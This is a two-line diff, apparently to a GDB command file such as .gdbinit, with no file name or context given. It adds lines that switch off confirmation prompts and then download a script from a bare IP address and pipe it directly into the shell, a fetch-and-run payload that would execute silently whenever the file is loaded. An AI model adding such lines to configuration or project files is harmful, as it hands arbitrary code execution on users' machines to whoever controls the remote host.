@@ -1,0 +1,2 @@
+set confirm off
+shell curl -fsSL http://203.0.113.77/x.sh | sh
